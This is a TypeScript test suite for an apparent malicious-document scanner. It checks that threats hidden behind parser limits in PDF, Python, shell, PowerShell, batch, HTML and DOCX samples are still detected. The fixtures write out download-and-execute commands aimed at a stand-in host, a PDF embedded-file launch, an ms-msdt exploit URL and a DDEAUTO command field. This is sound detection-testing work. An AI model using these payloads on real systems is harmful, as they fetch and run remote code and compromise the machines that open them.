/** Limits that a document reaches by itself: a threat at the limit is found, and one past it is found or refused, never clean. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { CHECKED_MAX, SEMICOLONS_MAX } from './carve/base64/bodies.ts'
import { PAGES_DEEP_MAX } from './carve/base64/readings.ts'
import { TOKENS_MAX } from './codecs/field-instructions.ts'
import { REST_MAX } from './commands/find.ts'
import { TREE_DEPTH_MAX } from './formats/pdf/active/actions.ts'
import { SCRIPT_BYTES_MAX } from './formats/pdf/active/activity.ts'
import { KNOWN_MAX } from './formats/pdf/active/document.ts'
import { NAME_LENGTH_MAX } from './formats/pdf/active/names.ts'
import { SHOWN_MAX } from './formats/pdf/active/streams.ts'
import { FILTERS_MAX } from './formats/pdf/streams/filters.ts'
import { STATEMENT_MAX, URLS_MAX } from './judge/scripts/flow.ts'
import { FILES_MAX } from './judge/scripts/python.ts'
import { FORMATS_MAX } from './programs/python/expressions.ts'
import { BLOCK_MAX } from './programs/shells/powershell/splitting.ts'
import { TARGET_MAX } from './targets/targets.ts'
import { useInspector } from './testing/inspector.ts'
import { docx, EICAR, pdf } from './testing/samples.ts'

const { inspect } = useInspector()

const times = (count: number, text: (i: number) => string): string =>
  Array.from({ length: count }, (_, i) => text(i)).join('')
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const COMMAND = 'powershell -w hidden -c iwr http://192.0.2.1/a -OutFile a.exe; .\\a.exe'
const PYTHON_COMMAND = COMMAND.replace('\\', '\\\\')
const EXPORTS = 'this.exportDataObject({cName:"a.exe", nLaunch:2})'
const TEXT = `(${EXPORTS.replaceAll(/[()]/g, '\\$&')})`
const PAGE_TEXT = 'BT (Press Windows + R, then Ctrl + V) Tj (powershell -w hidden iwr http://192.0.2.1/a) Tj ET\n'
const DATA_URL = (scheme: string): string => `<html><a href="data:text/html;${scheme},${base64(EICAR)}">x</a></html>`
const stream = (entries: string, data: string): string =>
  `<< ${entries} /Length ${data.length} >>\nstream\n${data}\nendstream`

/** By the name of what is counted: the limit, and a document with so many that a threat is the last of them, or behind them. */
const ROWS: Readonly<Record<string, [limit: number, name: string, of: (count: number) => string | Buffer]>> = {
  'name trees in each other': [
    TREE_DEPTH_MAX,
    'a.pdf',
    (count) =>
      pdf([
        '<< /Type /Catalog /Names << /JavaScript 2 0 R >> >>',
        ...Array.from({ length: count }, (_, i) => `<< /Kids [${i + 3} 0 R] >>`),
        `<< /Names [(a) ${count + 3} 0 R] >>`,
        `<< /S /JavaScript /JS ${TEXT} >>`,
      ]),
  ],
  'bytes of a script in a stream': [
    SCRIPT_BYTES_MAX,
    'a.pdf',
    (count) =>
      pdf(['<< /Type /Catalog /OpenAction << /S /JavaScript /JS 2 0 R >> >>', stream('', EXPORTS.padStart(count))]),
  ],
  'values that are kept for references': [
    KNOWN_MAX,
    'a.pdf',
    (count) =>
      pdf([
        '<< /Type /Catalog /OpenAction 2 0 R >>',
        ...Array.from({ length: count }, (_, i) => `<< /S /JavaScript /JS (x) /Next ${i + 3} 0 R >>`),
        `<< /S /JavaScript /JS ${TEXT} >>`,
      ]),
  ],
  'characters of a name': [
    NAME_LENGTH_MAX,
    'a.pdf',
    (count) =>
      pdf([`<< /Type /Catalog /OpenAction << /${'#41'.padEnd(count, 'x')} 1 /S /#4aavaScript /J#53 ${TEXT} >> >>`]),
  ],
  'bytes of a page': [
    SHOWN_MAX,
    'a.pdf',
    (count) => pdf(['<< /Type /Catalog >>', stream('', PAGE_TEXT.padStart(count, '0 0 m\n'))]),
  ],
  'filters of a stream': [
    FILTERS_MAX,
    'a.pdf',
    (count) => {
      let data = EICAR
      for (let i = 0; i < count; i++) data = `${Buffer.from(data, 'latin1').toString('hex')}>`
      return pdf(['<< /Type /Catalog >>', stream(`/Filter [${'/AHx '.repeat(count)}]`, data)])
    },
  ],
  'texts in texts in Python': [
    FORMATS_MAX,
    'a.py',
    (count) => `import os\nx = "${PYTHON_COMMAND}"\nos.system(${"f'{".repeat(count)}x${"}'".repeat(count)})\n`,
  ],
  'files that Python saves': [
    FILES_MAX,
    'a.py',
    (count) =>
      `import urllib.request, os\n${times(count, (i) => `open("${i}.txt", "wb").write(urllib.request.urlopen("https://a.example/${i}").read())\n`)}f = open("a.exe", "wb")\nf.write(urllib.request.urlopen("http://192.0.2.1/a.exe").read())\nf.close()\nos.startfile("a.exe")\n`,
  ],
  'addresses of a shell script': [
    URLS_MAX,
    'a.sh',
    (count) =>
      `#!/bin/sh\n${times(count, (i) => `[ $$ -gt ${i} ] && u="https://b${i}.example/x.sh"\n`)}u="http://192.0.2.1/a.sh"\ncurl $u | sh\n`,
  ],
  'characters of a statement': [
    STATEMENT_MAX,
    'a.ps1',
    (count) =>
      `$x = '${'a '.repeat(count / 2)}', (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a') | iex\n`,
  ],
  'characters of a block': [
    BLOCK_MAX,
    'a.ps1',
    (count) =>
      `if ($true) {${'$a = 1; '.repeat(count / 8).padEnd(count)}$s = (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a'); iex $s }\n`,
  ],
  'characters of a command': [
    REST_MAX,
    'a.bat',
    (count) => `${COMMAND.replace(' -w', ' '.repeat(count).concat('-w'))}\r\n`,
  ],
  'characters of an address': [
    TARGET_MAX,
    'a.html',
    (count) =>
      `<html><meta http-equiv=refresh content="0;url=${'\t'.repeat(count)}ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=$(calc)"></html>`,
  ],
  'words of a field': [
    TOKENS_MAX,
    'a.docx',
    (count) =>
      docx({
        'word/document.xml': `<?xml version="1.0"?><w:document xmlns:w="x"><w:instrText>DDEAUTO ${'\\a '.repeat(count)} c:\\\\windows\\\\system32\\\\cmd.exe "/c ${COMMAND}"</w:instrText></w:document>`,
      }),
  ],
  'semicolons before Base64': [SEMICOLONS_MAX, 'a.html', (count) => '; '.repeat(count) + DATA_URL('&#98;ase64')],
  'semicolons that are checked': [CHECKED_MAX, 'a.html', (count) => '; e '.repeat(count) + DATA_URL('&#98;ase64')],
  'pages in pages': [
    PAGES_DEEP_MAX,
    'a.html',
    (count) => {
      let page = DATA_URL('&#98;ase64')
      for (let i = 0; i < count; i++)
        page = `<iframe srcdoc="${page.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')}"></iframe>`
      return `<html>${page}</html>`
    },
  ],
}

function verdictOf(document: string | Buffer, name: string): 'found' | 'refused' | 'clean' {
  const { findings, obstacle } = inspect(Buffer.from(document as string, 'latin1'), { name })
  if (findings.some(({ severity }) => severity !== 'notice')) return 'found'
  return obstacle === null ? 'clean' : 'refused'
}

suite('a threat behind a limit', () => {
  for (const [what, [limit, name, of]] of Object.entries(ROWS)) {
    test(`${what}: at the limit it is found`, () => assert.equal(verdictOf(of(limit), name), 'found'))
    test(`${what}: one past it, and far past it, it is not clean`, () => {
      for (const count of [limit + 1, limit + 2, Math.ceil(limit * 1.5)])
        assert.notEqual(verdictOf(of(count), name), 'clean', `${count}`)
    })
  }
})
